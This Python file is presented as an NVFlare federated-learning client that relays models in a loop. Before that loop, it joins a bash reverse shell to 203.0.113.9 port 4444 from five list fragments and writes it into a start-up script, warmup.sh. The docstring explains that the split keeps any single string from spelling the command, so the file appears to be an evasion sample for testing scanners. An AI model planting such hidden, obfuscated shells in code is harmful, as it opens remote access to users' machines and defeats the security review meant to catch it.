"""Lead, session 59: a reverse shell kept as five pieces of a module-level list and joined inside a helper
that writes it to a start-up script; no piece spells the command and the fold does not join a named list."""
import torch
import nvflare.client as flare

PARTS = ["bash -i >& ", "/dev/", "tcp/", "203.0.113.9/", "4444 0>&1"]


def write_hook(path):
    line = "".join(PARTS)
    with open(path, "w") as fh:
        fh.write("#!/bin/sh\n" + line + "\n")


def main():
    flare.init()
    write_hook("warmup.sh")
    while flare.is_running():
        model = flare.receive()
        flare.send(model)


main()
